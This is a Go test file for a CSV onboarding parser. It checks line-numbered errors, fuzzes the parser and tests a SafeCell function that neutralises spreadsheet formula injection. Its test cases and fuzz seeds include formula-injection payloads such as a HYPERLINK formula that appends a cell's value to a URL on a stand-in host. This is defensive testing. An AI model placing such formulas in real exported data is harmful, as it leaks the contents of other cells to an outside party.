package onboard

import (
	"errors"
	"strings"
	"testing"

	"certdesk/core/pki"
)

// TestBareQuoteNamesTheLine is the line that made encoding/csv's FieldPos
// panic: it is an error of type *LineError naming line 2.
func TestBareQuoteNamesTheLine(t *testing.T) {
	_, err := ParseCSV(strings.NewReader("Ann,a@x.test\n=HYPERLINK(\"http://x/\"&A2),a@example.com\nBen,b@x.test\n"), pki.DefaultKeyType)
	var le *LineError
	if !errors.As(err, &le) || le.Line != 2 {
		t.Fatalf("error %v (%T), want a *LineError for line 2", err, err)
	}
}

func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Alice", "Alice"},
		{"", ""},
		{"=HYPERLINK(\"http://x/\"&A2)", "'=HYPERLINK(\"http://x/\"&A2)"},
		{"+1", "'+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tcmd", "'\tcmd"},
		{"\rcmd", "'\rcmd"},
		{"a=b", "a=b"},
		{"k7wq2-mzp3x", "k7wq2-mzp3x"},
	}
	for _, tt := range tests {
		if got := SafeCell(tt.in); got != tt.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// FuzzParseCSV: any bytes give rows or an error, never a panic; rows carry
// a line number and an error is a *LineError or says what it is.
func FuzzParseCSV(f *testing.F) {
	for _, seed := range []string{
		"name,email\nAnn,a@x.test\n",
		"=HYPERLINK(\"http://x/\"&A2),a@example.com\n",
		"a,\"b\nc",
		"\"a\"\"b\",c@x.test,O,U,30\n",
		"x,y\r\n\r\n\"\",\n",
		"\xff\xfe,\x00\n",
		"Ann,a@x.test,,,-1\nAnn,a@x.test\n",
	} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		rows, err := ParseCSV(strings.NewReader(string(data)), pki.DefaultKeyType)
		if err != nil {
			if rows != nil {
				t.Fatalf("rows and an error: %v", err)
			}
			var le *LineError
			if errors.As(err, &le) && le.Line < 1 {
				t.Fatalf("line %d in %v", le.Line, err)
			}
			return
		}
		for _, r := range rows {
			if r.Line < 1 {
				t.Fatalf("row at line %d", r.Line)
			}
		}
	})
}
